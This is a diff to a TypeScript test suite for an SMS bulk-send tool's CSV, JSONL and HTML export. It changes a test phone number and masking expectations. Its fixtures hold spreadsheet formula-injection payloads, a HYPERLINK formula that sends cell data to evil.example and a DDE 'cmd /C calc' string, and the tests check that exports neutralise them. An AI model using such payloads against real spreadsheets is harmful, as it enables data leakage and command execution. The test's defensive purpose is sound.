@@ -31,14 +31,14 @@ const ROWS = [
   ['14155550298', '\uFF1D1+1', 'new', '-2+3', '+10%'], // failed (90)
   ['=HYPERLINK("http://evil.example","x")', 'Bad', 'x', 'y', '1%'], // invalid: letters
   ['14155550101', 'Again', 'x', 'y', '2%'], // duplicate of row 1
-  ['+99912345678', 'Nobody', 'x', 'y', '3%'], // refused by Plivo (HTTP 400: alone in its request), failed
+  ['+14155550999', 'Nobody', 'x', 'y', '3%'], // a valid US number the simulator is told is unallocated: refused by Plivo (HTTP 400: alone in its request), failed
   ['14155550102', 'Ünal', '', 'plain', '4%'], // delivered
   ['14155550103', 'Đorđe', '', 'plain', '5%'], // delivered
 ];
 const TEXT = 'Hi {{name}}, {{discount}} off today';
 const rendered = (row: string[]) => `Hi ${row[1]}, ${row[4]} off today`;
 /** Every destination number of the CSV, as digits: none may show in a masked report. */
-const NUMBERS = ['14155550101', '14155550197', '14155550298', '99912345678', '14155550102', '14155550103'];
+const NUMBERS = ['14155550101', '14155550197', '14155550298', '14155550999', '14155550102', '14155550103'];
 
 function csvLine(fields: string[]): string {
   return fields.map((f) => `"${f.replace(/"/g, '""')}"`).join(',');
@@ -57,7 +57,7 @@ describe.each(LEDGER_KINDS)('export on the %s ledger', (kind) => {
 
   beforeAll(async () => {
     ledger = await createTestLedger(kind);
-    sim = await startSimulator({ mps: 1000, deliveryDelayMs: [5, 30], seed: 3 });
+    sim = await startSimulator({ mps: 1000, deliveryDelayMs: [5, 30], seed: 3, unallocated: ['14155550999'] });
     env = { ...ledger.env, ...simEnv(sim) };
     const job = await writeJob({ name, src: SRC, text: TEXT, rate: 200, batch_size: 10 }, [HEADER, ...ROWS.map(csvLine)].join('\n') + '\n');
     const run = await cli('run', job, '--track-for', '20', '--settle', '0');
@@ -81,7 +81,7 @@ describe.each(LEDGER_KINDS)('export on the %s ledger', (kind) => {
     const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
     expect(rows.map((x) => x['smsrun_status'])).toEqual(['delivered', 'undelivered', 'failed', 'invalid', 'duplicate', 'failed', 'delivered', 'delivered']);
     // smsrun's dst is the number as sent: digits, no '+', so it stays a number in a spreadsheet.
-    expect(rows.map((x) => x['dst'])).toEqual(['14155550101', '14155550197', '14155550298', `'=HYPERLINK("http://evil.example","x")`, '14155550101', '99912345678', '14155550102', '14155550103']);
+    expect(rows.map((x) => x['dst'])).toEqual(['14155550101', '14155550197', '14155550298', `'=HYPERLINK("http://evil.example","x")`, '14155550101', '14155550999', '14155550102', '14155550103']);
     // The user's cells as written, with a leading ' where they would run as a formula.
     expect(rows[0]).toMatchObject({ phone: "'+1 415 555 0101", name: 'Zoë 🎉', status: 'vip', note: `'=HYPERLINK("http://evil.example/?d="&A1,"click")`, discount: "'-20%" });
     expect(rows[1]).toMatchObject({ phone: "'+14155550197", name: "'@mention", status: "'=1+1", note: "'+cmd|' /C calc'!A0", discount: "'-5%" });
@@ -92,7 +92,7 @@ describe.each(LEDGER_KINDS)('export on the %s ledger', (kind) => {
     expect(rows[2]).toMatchObject({ error_code: '90', error_meaning: 'Plivo has no carrier route to this destination' });
     expect(rows[0]).toMatchObject({ error_code: '000', error_meaning: expect.stringMatching(/no error/) });
     expect(rows[4]!['reason']).toBe('same number as row 1: sent once');
-    expect(rows[5]).toMatchObject({ message_uuid: '', reason: "Plivo refused the request (HTTP 400): '99912345678' is not a valid phone number." });
+    expect(rows[5]).toMatchObject({ message_uuid: '', reason: "Plivo refused the request (HTTP 400): '14155550999' is not a valid phone number." });
     expect(header).not.toContain(',text'); // the text only when asked
   });
 
@@ -141,8 +141,8 @@ describe.each(LEDGER_KINDS)('export on the %s ledger', (kind) => {
     expect(csv[1]).toMatchObject({ dst: '141XXXXX197', phone: "'+141XXXXX197" });
     const lines = jsonl(outputs[1]!.stdout);
     expect(lines[2]).toMatchObject({ dst: '141XXXXX298', phone: '141XXXXX298' });
-    expect(lines[5]).toMatchObject({ dst: '999XXXXX678', smsrun_status: 'failed', reason: "Plivo refused the request (HTTP 400): '999XXXXX678' is not a valid phone number." });
-    expect(outputs[2]!.stdout).toContain('999XXXXX678');
+    expect(lines[5]).toMatchObject({ dst: '141XXXXX999', smsrun_status: 'failed', reason: "Plivo refused the request (HTTP 400): '141XXXXX999' is not a valid phone number." });
+    expect(outputs[2]!.stdout).toContain('141XXXXX999');
   });
 
   it('HTML: one page that fetches nothing, with the summary and the rows that need attention', async () => {
@@ -189,7 +189,7 @@ describe.each(LEDGER_KINDS)('export on the %s ledger', (kind) => {
     expect(second.map((x) => [x['phone'], x['name'], x['discount'], x['smsrun_status']])).toEqual([
       ['+14155550197', '@mention', '-5%', 'undelivered'],
       ['14155550298', '\uFF1D1+1', '+10%', 'failed'],
-      ['+99912345678', 'Nobody', '3%', 'failed'], // refused again: Plivo accepts nothing for it
+      ['+14155550999', 'Nobody', '3%', 'failed'], // refused again: Plivo accepts nothing for it
     ]);
   });
 
